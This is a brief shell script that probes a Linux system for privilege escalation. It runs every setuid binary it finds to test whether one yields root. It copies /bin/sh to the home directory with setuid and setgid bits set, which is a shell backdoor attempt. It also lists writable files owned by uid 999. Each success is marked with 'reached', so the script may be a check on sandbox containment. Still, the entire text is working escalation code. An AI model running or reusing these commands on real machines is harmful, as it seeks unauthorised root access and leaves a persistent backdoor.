for program in $(find /usr/bin /usr/sbin /usr/lib -perm -4000 -type f 2>/dev/null); do
  timeout 2 "$program" -c 'id -u' </dev/null 2>/dev/null | grep -qx 0 && echo "reached root by $program"
done
cp /bin/sh ~/own && chmod 6755 ~/own && [ "$(~/own -p -c 'id -u')" != 1000 ] && echo reached
find / -xdev -uid 999 -writable ! -perm -1000 2>/dev/null | grep -v ^/proc | sed 's/^/reached /'
true
